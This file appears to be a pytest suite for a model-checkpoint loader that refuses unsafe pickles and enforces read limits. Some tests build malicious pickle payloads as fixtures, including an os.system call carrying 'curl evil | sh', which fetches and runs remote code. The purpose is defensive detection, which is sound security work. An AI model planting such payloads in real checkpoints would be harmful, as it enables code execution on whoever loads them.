"""Loading and inspecting as a whole: facts, limits, other readers as a check, real files."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
import torch
from safetensors.torch import load_file, save_file

from rnp_core.checkpoints import (
    CheckpointRefused,
    ReadLimits,
    inspect_checkpoint,
    load_checkpoint,
)
from rnp_core.errors import CheckpointError, ConfigError
from tests.helpers import layout_files as files
from tests.helpers import pickle_ops as ops
from tests.helpers.shared import SHARED, needs_shared

CARDS = sorted(SHARED.glob("checkpoints/*/card.json")) if SHARED else []


@needs_shared
@pytest.mark.parametrize("card", CARDS, ids=lambda card: card.parent.name)
def test_shared_checkpoints_load(card) -> None:
    facts = json.loads(card.read_text())
    path = card.parent / facts["file"]
    checkpoint = load_checkpoint(path)
    assert checkpoint.sha256 == facts["sha256"]
    assert checkpoint.reader == "weights_only"
    assert checkpoint.findings == () and checkpoint.non_finite == ()
    value = torch.load(path, map_location="cpu", weights_only=True)
    value = value.get("state_dict", value.get("net", value))
    prefix = checkpoint.removed_prefix
    assert {prefix + name for name in checkpoint.state} == set(value)
    for name, tensor in checkpoint.state.items():
        assert torch.equal(tensor, value[prefix + name])


@needs_shared
@pytest.mark.parametrize("card", CARDS, ids=lambda card: card.parent.name)
def test_inert_reader_agrees_with_torch(card, monkeypatch) -> None:
    path = card.parent / json.loads(card.read_text())["file"]
    expected = load_checkpoint(path)
    monkeypatch.setattr("rnp_core.checkpoints.load.load_weights_only", lambda source: None)
    checkpoint = load_checkpoint(path)
    assert checkpoint.reader == "inert"
    assert list(checkpoint.state) == list(expected.state)
    for name, tensor in checkpoint.state.items():
        assert torch.equal(tensor, expected.state[name])


def test_safetensors_agrees_with_its_library(tmp_path) -> None:
    state = {
        "a": torch.randn(3, 4),
        "b": torch.arange(5),
        "c": torch.tensor(True),
        "d": torch.randn(2, 2, dtype=torch.float64),
        "e": torch.zeros(0, 3),
    }
    path = tmp_path / "model.safetensors"
    save_file(state, path)
    checkpoint = load_checkpoint(path)
    for name, tensor in load_file(path).items():
        assert torch.equal(checkpoint.state[name], tensor)


def test_inspection_is_json_and_uses_no_weight(tmp_path, monkeypatch) -> None:
    path = files.save(files.network(), tmp_path / "model.pt")
    monkeypatch.setattr(torch, "frombuffer", None)
    monkeypatch.setattr(torch, "load", None)
    inspection = inspect_checkpoint(path)
    facts = json.loads(json.dumps(inspection.to_dict()))
    assert facts["reader"] == "inert" and facts["layout"] == "pickled module"
    assert "torch.nn.modules.linear.Linear" in facts["globals"]
    assert {"name": "fc.bias", "shape": [4], "dtype": "float32"} in facts["tensors"]
    rules = {finding["rule"]: finding["severity"] for finding in facts["findings"]}
    assert rules["pickled-module"] == "low" and "torch-unsafe-globals" in rules


def test_a_refusal_carries_the_inspection(tmp_path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(ops.stream(ops.call("os", "system", ops.text("true"))))
    with pytest.raises(CheckpointRefused, match="plain pickle") as caught:
        load_checkpoint(path)
    assert caught.value.inspection.findings[0].evidence["global"] == "os.system"
    assert caught.value.inspection == inspect_checkpoint(path)


def test_findings_show_arguments_and_the_second_opinion(tmp_path) -> None:
    pytest.importorskip("picklescan")
    payload = ops.call("os", "system", ops.text("curl evil | sh"))
    inspection = inspect_checkpoint(ops.write_zip(tmp_path / "m.pth", ops.network(payload)))
    by_rule = {finding.rule: finding for finding in inspection.findings}
    (call,) = by_rule["unsafe-global"].evidence["calls"]
    assert "curl evil | sh" in call["arguments"]
    assert by_rule["picklescan"].evidence["globals"] == ["os.system"]
    assert by_rule["torch-unsafe-globals"].evidence["globals"] == ["os.system"]
    assert inspection.globals.count("os.system") == 1


def test_names_of_own_packages_are_a_medium_finding(tmp_path) -> None:
    payload = ops.name("models.resnet", "ResNet") + b")\x81"
    checkpoint = load_checkpoint(ops.write_zip(tmp_path / "m.pth", ops.network(payload)))
    (finding,) = checkpoint.findings[:1]
    assert (finding.severity, finding.rule) == ("medium", "unknown-global")
    assert finding.evidence["globals"] == ["models.resnet.ResNet"]


@pytest.mark.parametrize(
    ("limits", "reason"),
    [
        (ReadLimits(file_bytes=100), "file_bytes"),
        (ReadLimits(tensor_bytes=10), "at most 10 bytes"),
        (ReadLimits(pickle_bytes=10), "10 bytes"),
        (ReadLimits(pickle_steps=5), "5 pickle opcodes"),
        (ReadLimits(depth=1), "nested"),
        (ReadLimits(tensors=2), "2 tensors"),
        (ReadLimits(name_length=3), "3 characters"),
        (ReadLimits(archive_members=2), "2 archive members"),
        (ReadLimits(global_names=1), "1 different names"),
    ],
)
def test_limits(tmp_path, limits, reason) -> None:
    value = {"model": {"a": files.network().state_dict()}}
    path = files.save(value, tmp_path / "model.pth")
    with pytest.raises(CheckpointError, match=reason):
        load_checkpoint(path, limits=limits)


@pytest.mark.parametrize(
    ("limits", "reason"),
    [
        (ReadLimits(pickle_bytes=30), "pickle_bytes"),
        (ReadLimits(string_bytes=5), "5 bytes"),
    ],
)
def test_limits_of_the_legacy_container(tmp_path, limits, reason) -> None:
    path = files.save(files.network().state_dict(), tmp_path / "model.pth", legacy=True)
    with pytest.raises(CheckpointError, match=reason):
        load_checkpoint(path, limits=limits)


def test_limits_must_be_positive() -> None:
    with pytest.raises(ConfigError, match="depth"):
        ReadLimits(depth=0)


def test_a_link_named_by_the_user_is_followed(tmp_path) -> None:
    files.save(files.network().state_dict(), tmp_path / "model.pth")
    (tmp_path / "link.pth").symlink_to(tmp_path / "model.pth")
    assert load_checkpoint(tmp_path / "link.pth").file_name == "link.pth"


def test_links_of_the_hugging_face_cache_are_followed(tmp_path) -> None:
    blobs, snapshot = tmp_path / "blobs", tmp_path / "snapshots" / "1"
    blobs.mkdir()
    snapshot.mkdir(parents=True)
    save_file(files.network().state_dict(), blobs / "hash")
    (snapshot / "model.safetensors").symlink_to("../../blobs/hash")
    assert load_checkpoint(snapshot).format == "safetensors"


def test_reading_changes_no_global_state(tmp_path) -> None:
    path = files.save(files.network(), tmp_path / "model.pt")
    before = torch.random.get_rng_state()
    modules = set(sys.modules)
    load_checkpoint(path)
    assert torch.equal(before, torch.random.get_rng_state())
    assert not {name for name in set(sys.modules) - modules if name.startswith("torchvision")}


def test_importing_is_light() -> None:
    code = (
        "import sys, rnp_core.checkpoints; "
        "heavy = {'safetensors', 'picklescan', 'captum', 'transformers', 'sklearn', 'streamlit'}; "
        "assert not heavy & set(sys.modules), heavy & set(sys.modules)"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


@pytest.mark.filterwarnings("ignore")
def test_real_torchscript_and_export_archives_are_refused(tmp_path) -> None:
    model = files.network().eval()
    example = torch.zeros(1, 3, 8, 8)
    torch.jit.save(torch.jit.trace(model, example), tmp_path / "script.pt")
    with pytest.raises(CheckpointError, match="TorchScript"):
        load_checkpoint(tmp_path / "script.pt")
    torch.export.save(torch.export.export(model, (example,)), tmp_path / "program.pt2")
    with pytest.raises(CheckpointError, match="torch.export"):
        load_checkpoint(tmp_path / "program.pt2")


def test_a_broken_config_beside_a_named_file_is_ignored(tmp_path) -> None:
    files.save(files.network().state_dict(), tmp_path / "model.pt")
    (tmp_path / "config.json").write_text("{")
    assert load_checkpoint(tmp_path / "model.pt").layout == "bare state dict"
    with pytest.raises(CheckpointError, match="not JSON"):
        load_checkpoint(tmp_path)


def test_readers_that_disagree_are_a_refusal(tmp_path, monkeypatch) -> None:
    path = files.save(files.network().state_dict(), tmp_path / "model.pth")
    other = {"fc.weight": torch.zeros(1)}
    monkeypatch.setattr("rnp_core.checkpoints.load.load_weights_only", lambda source: other)
    with pytest.raises(CheckpointRefused, match="ambiguous"):
        load_checkpoint(path)


@pytest.mark.parametrize("moved", [-1000, 1000, 2**31])
def test_a_member_that_begins_outside_the_file_is_refused(tmp_path, moved) -> None:
    path = tmp_path / "model.pth"
    torch.save({"weight": torch.ones(2)}, path)
    data = bytearray(path.read_bytes())
    end = data.rindex(b"PK\x05\x06")
    for marker in (b"PK\x06\x06", b"PK\x06\x07"):  # torch writes zip64 records, which would win
        if marker in data:
            data[data.rindex(marker)] = 0
    start = int.from_bytes(data[end + 16 : end + 20], "little")
    data[end + 16 : end + 20] = ((start + moved) % 2**32).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    with pytest.raises(CheckpointError):
        load_checkpoint(path)
